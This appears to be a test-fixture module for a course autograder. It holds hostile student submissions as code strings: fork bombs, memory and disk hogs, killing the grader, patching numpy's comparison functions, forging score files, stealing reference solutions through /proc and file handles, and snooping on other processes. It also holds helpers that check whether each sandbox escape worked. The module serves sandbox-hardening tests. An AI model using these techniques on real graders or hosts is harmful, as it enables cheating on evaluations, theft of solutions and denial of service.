"""Hostile submissions: the reference ``rnn_layers.py`` with one or two functions replaced by
code that attacks the grader. Each entry: the code appended to the reference module (a later
``def`` replaces the reference one), the API names it may break, and the API names graded in
the test (all others selected must keep full marks).

Used by tests/test_autograder_hostile.py and tests/test_autograder_isolation.py (the escapes
and the helpers that observe them from outside the worker).
"""

import json
import os
import re
import socket
import threading
from pathlib import Path

# The API names the hostile test grades (numpy forwards only: no torch in the grader).
SELECTED = ["rnn_step_forward", "rnn_forward", "word_embedding_forward",
            "temporal_affine_forward"]

_HANG = '''
import signal as _signal
_signal.signal(_signal.SIGTERM, _signal.SIG_IGN)      # ignores SIGTERM


def rnn_step_forward(x, prev_h, Wx, Wh, b):
    while True:
        pass
'''

_EXIT = '''
import os as _os


def rnn_forward(x, h0, Wx, Wh, b):
    _os._exit(3)
'''

_FORK_DETACH = '''
import os as _os
_ref_embed = word_embedding_forward


def word_embedding_forward(x, W):
    pid = _os.fork()
    if pid == 0:                       # child: detach completely and live on
        _os.setsid()
        if _os.fork() == 0:
            try:
                _os.execve("/bin/sleep", ["sleep", "987.654321"], {})
            finally:
                _os._exit(0)
        _os._exit(0)
    _os.waitpid(pid, 0)
    return _ref_embed(x, W)
'''

_MEMORY = '''
import numpy as _np


def temporal_affine_forward(x, w, b):
    hog = []
    while True:                         # takes memory until the limit stops it
        hog.append(_np.empty(50_000_000))
# Untouched: the address-space limit (1 GiB) is below the worker's cgroup bound, so it stops the
# hog whether its pages are written or not, and writing them costs seconds of CPU per call
# (forked_memory writes its memory: it attacks the cgroup bound).
'''

_PATCH_NUMPY = '''
import numpy as _np
_np.allclose = lambda *a, **k: True
_np.array_equal = lambda *a, **k: True
_np.isclose = lambda a, b, *args, **k: _np.ones(_np.broadcast(a, b).shape, dtype=bool)
_np.testing.assert_allclose = lambda *a, **k: None


def rnn_step_forward(x, prev_h, Wx, Wh, b):
    return _np.zeros((x.shape[0], Wh.shape[0]), dtype=x.dtype), None
'''

_FAKE_SCORE = '''
import json as _json
import os as _os

print('{"score": 1000.0, "tests": []}')
_fake = {"score": 1000.0, "output": "PWNED", "tests": []}
for _p in ("results.json", "/autograder/results/results.json"):
    try:
        with open(_p, "w") as _f:
            _json.dump(_fake, _f)
    except OSError:
        pass
try:
    _args = open("/proc/%d/cmdline" % _os.getppid(), "rb").read().split(b"\\0")
    for _a in _args:
        if _a.endswith(b".json") or b"out" in _a:
            _p = _a.decode()
            for _target in (_p, _os.path.join(_p, "ref.json")):
                try:
                    with open(_target, "w") as _f:
                        _json.dump(_fake, _f)
                except OSError:
                    pass
except OSError:
    pass


def rnn_forward(x, h0, Wx, Wh, b):
    print("SCORE: 100/100")
    with open("results.json", "w") as f:
        f.write("PWNED")
    return None, None
'''

_GARBAGE = '''
import numpy as _np


def rnn_step_forward(x, prev_h, Wx, Wh, b):
    return None


def rnn_forward(x, h0, Wx, Wh, b):
    return [[1, 2], [3]], None


def word_embedding_forward(x, W):
    return _np.array([object(), 1], dtype=object), None


class _Evil:
    def __array__(self, *a, **k):
        raise RuntimeError("no")

    def __len__(self):
        raise RuntimeError("no")


def temporal_affine_forward(x, w, b):
    return _np.full((x.shape[0], x.shape[1], w.shape[1]), _np.nan), _Evil(), 3
'''

_READ_SOLUTIONS = '''
import os as _os
import sys as _sys

_found = []
_roots = [_os.getcwd(), "/proc/%d/cwd" % _os.getppid(), "/proc/%d/root" % _os.getppid()]
_roots += [p for p in _sys.path if p]
_roots += [v for v in _os.environ.values() if v.startswith("/")]
try:
    _roots += [a.decode() for a in open("/proc/%d/cmdline" % _os.getppid(), "rb").read()
               .split(b"\\0") if a.startswith(b"/")]
    _roots += [a.decode().split("=", 1)[-1] for a in open("/proc/%d/environ" % _os.getppid(),
               "rb").read().split(b"\\0")]
except OSError:
    pass
for _r in list(_roots):
    _p = _r
    for _ in range(8):
        _roots.append(_p)
        _p = _os.path.dirname(_p)
for _r in sorted(set(_roots)):
    for _rel in ("solutions/sequence_models/seqlab/rnn_layers.py",
                 "sequence_models/seqlab/rnn_layers.py", "autograder/checks/rnn.py",
                 "source/solutions/sequence_models/seqlab/rnn_layers.py"):
        _path = _os.path.join(_r, _rel)
        try:
            with open(_path) as _f:
                if "BEGIN SOLUTION" in _f.read() or "register" in _f.read():
                    _found.append(_path)
        except (OSError, UnicodeDecodeError):
            pass
if _found:
    print("LEAKED", _found[:3])


def rnn_step_forward(x, prev_h, Wx, Wh, b):
    if _found:
        raise RuntimeError("LEAKED " + _found[0])
    import numpy as np
    return np.tanh(x @ Wx + prev_h @ Wh + b), None
'''

_FORK_BOMB = '''
import os as _os


def word_embedding_forward(x, W):
    while True:
        try:
            _os.fork()
        except OSError:
            pass
'''

_FLOOD_OUTPUT = '''
import sys as _sys
_ref_rnn = rnn_forward


def rnn_forward(x, h0, Wx, Wh, b):
    for _ in range(2000):
        _sys.stdout.write("x" * 10000 + "\\n")
    _sys.stderr.write("\\x00\\x1b[31m binary \\xff garbage")
    return _ref_rnn(x, h0, Wx, Wh, b)
'''

_PROTOCOL = '''
import os as _os


def temporal_affine_forward(x, w, b):
    for fd in range(3, 30):
        try:
            _os.write(fd, b"SQLW\\xff\\xff\\xff\\xff garbage garbage")
        except OSError:
            pass
    return x @ w + b, None
'''

_EXIT_AT_IMPORT = '''
import sys as _sys
_sys.exit(0)
'''

_KILL_GRADER = '''
import os as _os
import signal as _signal


def rnn_step_forward(x, prev_h, Wx, Wh, b):
    for sig in (_signal.SIGKILL, _signal.SIGTERM):
        try:
            _os.kill(_os.getppid(), sig)
        except OSError:
            pass
        try:
            _os.killpg(_os.getpgid(_os.getppid()), sig)
        except OSError:
            pass
    try:
        _os.kill(-1, _signal.SIGKILL)
    except OSError:
        pass
    return None, None
'''

_FORGE = '''
import os as _os
import struct as _struct


def _forge(header, data=b""):
    """Write a frame of our own into the worker's answer channel (its fd is on the
    interpreter's command line)."""
    fd = int(open("/proc/self/cmdline", "rb").read().split(b"\\0")[-2])
    _os.write(fd, b"SQLW" + _struct.pack(">IQ", len(header), len(data)) + header + data)
'''

_DEEP_FRAME = _FORGE + '''
_ref_rnn_step = rnn_step_forward


def rnn_step_forward(x, prev_h, Wx, Wh, b):
    _forge(b'{"ok": true, "values": ' + b"[" * 100000 + b"]" * 100000 + b"}")
    return _ref_rnn_step(x, prev_h, Wx, Wh, b)
'''

_BAD_IMPORT_REPLY = _FORGE + '''
_forge(b'{"id": 1, "ok": false, "error": ["not", "an", "object"], "values": {}}')
'''

_OVERSIZED = '''
import numpy as _np


def word_embedding_forward(x, W):
    return _np.zeros((9000, 1000)), None      # 72 MB: over the byte budget of a call
'''

# name -> (appended code, API names it may break, root only)
HOSTILE = {
    "deep_reply_frame": (_DEEP_FRAME, {"rnn_step_forward"}, False),
    "bad_import_reply": (_BAD_IMPORT_REPLY, set(SELECTED), False),
    "oversized_reply": (_OVERSIZED, {"word_embedding_forward"}, False),
    "hang_ignore_sigterm": (_HANG, {"rnn_step_forward"}, False),
    "os_exit": (_EXIT, {"rnn_forward"}, False),
    "fork_detached": (_FORK_DETACH, set(), False),
    "memory_hog": (_MEMORY, {"temporal_affine_forward"}, False),
    "patch_numpy": (_PATCH_NUMPY, {"rnn_step_forward"}, False),
    "fake_score": (_FAKE_SCORE, {"rnn_forward"}, False),
    "garbage_returns": (_GARBAGE, set(SELECTED), False),
    "read_solutions": (_READ_SOLUTIONS, set(), True),
    "fork_bomb": (_FORK_BOMB, {"word_embedding_forward"}, False),
    "flood_output": (_FLOOD_OUTPUT, set(), False),
    "protocol_garbage": (_PROTOCOL, {"temporal_affine_forward"}, False),
    "exit_at_import": (_EXIT_AT_IMPORT, set(SELECTED), False),
    "kill_grader": (_KILL_GRADER, {"rnn_step_forward"}, True),
}


# ---------------------------------------------------------------------------------------------
# Escapes: attacks on the isolation itself. Each is graded twice by the test: against a
# deliberately unisolated worker (method 'plain', the positive control: the attack must work)
# and in the real sandbox (it must not). Placeholders @@NAME@@ are filled in by the test
# (``escape_source``): the strongest attacker knows the reference's path, its file handle,
# a local port and the other students' names.
# ---------------------------------------------------------------------------------------------

_STEAL_REFERENCE = '''
import ctypes as _ct
import os as _os
import sys as _sys


def _source_ok(text):
    return "def rnn_step_forward" in text and "implement this" not in text


def _by_path():
    roots = ["@@COURSE@@", _os.getcwd(), "/proc/%d/cwd" % _os.getppid(), "/root", "/home",
             "/tmp", "/work"] + [p for p in _sys.path if p]
    rels = ["@@REFERENCE@@", "solutions/sequence_models/seqlab/rnn_layers.py"]
    for r in roots:
        for rel in rels:
            try:
                with open(_os.path.join(r, rel)) as f:
                    text = f.read()
                if _source_ok(text):
                    return text
            except (OSError, UnicodeDecodeError):
                pass
    return None


def _by_handle():
    """open_by_handle_at: opens a file by inode, under any folder mounted over it (needs
    CAP_DAC_READ_SEARCH and a descriptor on the same file system)."""
    raw = bytes.fromhex("@@HANDLE@@")
    if not raw:
        return None

    class Handle(_ct.Structure):
        _fields_ = [("handle_bytes", _ct.c_uint), ("handle_type", _ct.c_int),
                    ("f_handle", _ct.c_ubyte * 128)]
    libc = _ct.CDLL(None, use_errno=True)
    h = Handle(len(raw), @@HANDLE_TYPE@@)
    _ct.memmove(h.f_handle, raw, len(raw))
    for mount in ("/", ".", "/tmp", "/usr", _sys.prefix, "/dev/shm"):
        try:
            mfd = _os.open(mount, _os.O_RDONLY | _os.O_DIRECTORY)
        except OSError:
            continue
        fd = libc.open_by_handle_at(mfd, _ct.byref(h), _os.O_RDONLY)
        _os.close(mfd)
        if fd >= 0:
            with open(fd, closefd=True) as f:
                text = f.read()
            if _source_ok(text):
                return text
    return None


_stolen = _by_path() or _by_handle()
if _stolen:
    exec(compile(_stolen, "stolen", "exec"), globals())   # the reference, as this module
'''

_NETWORK = '''
import socket as _socket
_ref_rnn_step = rnn_step_forward
_attacked = []


def _attack():
    try:
        with _socket.create_connection(("127.0.0.1", @@PORT@@), timeout=1) as s:
            s.sendall(b"LEAKED over loopback")
    except OSError:
        pass


def rnn_step_forward(x, prev_h, Wx, Wh, b):
    if not _attacked:                    # once per worker process
        _attacked.append(1)
        _attack()
    return _ref_rnn_step(x, prev_h, Wx, Wh, b)
'''

_PROC_SNOOP = '''
import os as _os
_ref_rnn_step = rnn_step_forward
_attacked = []


def _roster():
    found = []
    for pid in _os.listdir("/proc"):
        try:
            with open("/proc/%s/cmdline" % pid, "rb") as f:
                if b"@@CLASSMATE@@" in f.read():
                    found.append(pid)
        except OSError:
            pass
    return found


def _attack():
    if _roster():
        print("LEAKED the grader's command line (the roster)")


def rnn_step_forward(x, prev_h, Wx, Wh, b):
    if not _attacked:                    # once per worker process
        _attacked.append(1)
        _attack()
    return _ref_rnn_step(x, prev_h, Wx, Wh, b)
'''

_LEFTOVERS = '''
import ctypes as _ct
import os as _os
_ref_rnn_step = rnn_step_forward
_attacked = []


def _attack():
    libc = _ct.CDLL(None, use_errno=True)
    libc.shmget(_ct.c_int(@@SHM_KEY@@), _ct.c_size_t(4096), _ct.c_int(0o1000 | 0o666))
    for folder in ("/run/lock", "/var/lock", "/dev/shm"):
        try:
            with open(_os.path.join(folder, "@@TAG@@"), "w") as f:
                f.write("left behind")
        except OSError:
            pass


def rnn_step_forward(x, prev_h, Wx, Wh, b):
    if not _attacked:                    # once per worker process
        _attacked.append(1)
        _attack()
    return _ref_rnn_step(x, prev_h, Wx, Wh, b)
'''

_DISK_FILL = '''
import os as _os
_ref_rnn_step = rnn_step_forward
_attacked = []


def _attack():
    block = b"x" * (4 << 20)
    written = 0
    for folder in (_os.environ.get("TMPDIR", "/tmp"), "/dev/shm", "/tmp", "."):
        for i in range(16):                      # at most 64 MiB per folder, 256 in all
            try:
                with open(_os.path.join(folder, "@@TAG@@-fill%d" % i), "wb") as f:
                    f.write(block)
                written += len(block)
            except OSError:
                break
    print("WROTE %d MiB" % (written >> 20))


def rnn_step_forward(x, prev_h, Wx, Wh, b):
    if not _attacked:                    # once per worker process
        _attacked.append(1)
        _attack()
    return _ref_rnn_step(x, prev_h, Wx, Wh, b)
'''

_FORKED_MEMORY = '''
import os as _os
import select as _select
import numpy as _np
_ref_rnn_step = rnn_step_forward
_attacked = []


def _attack():
    """Each child stays under the per-process address-space limit (1 GiB); together they
    exceed the worker's memory cgroup (1.25 GiB)."""
    done_r, done_w = _os.pipe()          # children -> parent: "I hold my share"
    hold_r, hold_w = _os.pipe()          # parent -> children: EOF when they may go
    kids = []
    for _ in range(12):
        pid = _os.fork()
        if pid == 0:
            try:
                _os.close(hold_w)
                a = _np.ones(16 * 2 ** 20)        # 128 MiB, touched (1.5 GiB in all)
                _os.write(done_w, b"1" if a[-1] == 1 else b"0")
                _os.read(hold_r, 1)
            except BaseException as exc:
                _os.write(2, ("child: %r\\n" % exc).encode())
            finally:
                _os._exit(0)
        kids.append(pid)
    _os.close(done_w)
    _os.close(hold_r)
    reported, waited, gone = 0, 0.0, set()
    while reported < 12 and waited < 30:
        ready, _, _ = _select.select([done_r], [], [], 0.2)
        if ready:
            if _os.read(done_r, 1) != b"1":
                break
            reported += 1
            continue
        waited += 0.2
        # a child ends only when it is told to or killed: once one is gone (the OOM killer),
        # 12 can no longer be held at once and the attack has failed; stop waiting for it
        gone = {pid for pid in kids if _os.waitpid(pid, _os.WNOHANG) != (0, 0)}
        if gone:
            break
    # held = children alive together with their share (an OOM kill frees one to let another on)
    held = sum(1 for pid in kids
               if pid not in gone and _os.waitpid(pid, _os.WNOHANG) == (0, 0))
    print("HELD %d (%d of 12 reported)" % (held if reported == 12 else 0, reported))
    _os.close(hold_w)
    for pid in kids:
        try:
            _os.kill(pid, 9)
            _os.waitpid(pid, 0)
        except OSError:
            pass
    _os.close(done_r)


def rnn_step_forward(x, prev_h, Wx, Wh, b):
    if not _attacked:                    # once per worker process
        _attacked.append(1)
        _attack()
    return _ref_rnn_step(x, prev_h, Wx, Wh, b)
'''

# name -> (code, base module: 'stub' or 'reference')
ESCAPES = {
    "steal_reference": (_STEAL_REFERENCE, "stub"),
    "network": (_NETWORK, "reference"),
    "proc_snoop": (_PROC_SNOOP, "reference"),
    "leftovers": (_LEFTOVERS, "reference"),
    "disk_fill": (_DISK_FILL, "reference"),
    "forked_memory": (_FORKED_MEMORY, "reference"),
}
ESCAPE_API = "rnn_step_forward"


def file_handle(path):
    """(hex, type) of ``path``'s file handle (name_to_handle_at), or ('', 0)."""
    import ctypes
    import os

    class Handle(ctypes.Structure):
        _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int),
                    ("f_handle", ctypes.c_ubyte * 128)]
    libc = ctypes.CDLL(None, use_errno=True)
    h = Handle(128, 0)
    mount_id = ctypes.c_int(0)
    AT_FDCWD = -100
    if libc.name_to_handle_at(AT_FDCWD, os.fsencode(str(path)), ctypes.byref(h),
                              ctypes.byref(mount_id), 0) != 0:
        return "", 0
    return bytes(h.f_handle[:h.handle_bytes]).hex(), h.handle_type


def escape_source(name, base_text, fill):
    """The submitted rnn_layers.py of escape ``name``: ``base_text`` (the stub or the
    reference) with the attack appended, placeholders replaced from ``fill``."""
    code = ESCAPES[name][0]
    for key, value in fill.items():
        code = code.replace("@@%s@@" % key, str(value))
    return base_text + "\n\n# --- escape attempt ---\n" + code


# ---------------------------------------------------------------------------------------------
# observing the escapes from outside the worker
# ---------------------------------------------------------------------------------------------

# the guarantees (isolation.GUARANTEES) that stop each escape: all of one set suffice
STOPPED_BY = {
    "steal_reference": [{"mount namespace"}, {"unprivileged uid"}],  # (course not readable)
    "network": [{"network namespace"}],
    "proc_snoop": [{"PID namespace"}],
    "leftovers": [{"IPC namespace", "mount namespace"}],
    "disk_fill": [{"mount namespace"}],
    "forked_memory": [{"memory and pids cgroup"}],
}


class Listener(threading.Thread):
    """A TCP server on 127.0.0.1 that counts connections that sent something."""

    def __init__(self):
        super().__init__(daemon=True)
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received = 0
        self.halt = threading.Event()

    def run(self):
        while not self.halt.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    if conn.recv(100):
                        self.received += 1
                except OSError:
                    pass

    def take(self):
        n, self.received = self.received, 0
        return n

    def stop(self):
        self.halt.set()
        self.join()
        self.sock.close()


def shm_keys():
    try:
        lines = Path("/proc/sysvipc/shm").read_text().splitlines()[1:]
    except OSError:
        return set()
    return {int(line.split()[0]) for line in lines if line.split()}


def tagged_files(tag):
    out = []
    for folder in ("/run/lock", "/var/lock", "/dev/shm", "/tmp", "/var/tmp"):
        try:
            out += [os.path.join(folder, n) for n in os.listdir(folder) if tag in n]
        except OSError:
            pass
    return sorted(set(os.path.realpath(p) for p in out))


def escape_score(data, api):
    tests = [t for t in data["tests"] if t["tags"][0] == api]
    return sum(t["score"] for t in tests), sum(t["max_score"] for t in tests)


def escape_effect(run, name):
    """Did escape ``name`` work in this run? (observed outside the worker)"""
    data = run["results"][name]
    text = json.dumps(data)
    if name == "steal_reference":
        got, total = escape_score(data, ESCAPE_API)
        return got == total > 0
    if name == "network":
        return run["connections"] > 0
    if name == "proc_snoop":
        return "LEAKED the grader" in text
    if name == "leftovers":
        return run["shm"] or bool(run["files"])
    if name == "disk_fill":
        return "WROTE 256 MiB" in text
    if name == "forked_memory":
        held = [int(n) for t in data["tests"] for n in re.findall(r"HELD (\d+)", t["output"])]
        return 12 in held  # 12 children held 128 MiB each at once
    raise AssertionError(name)


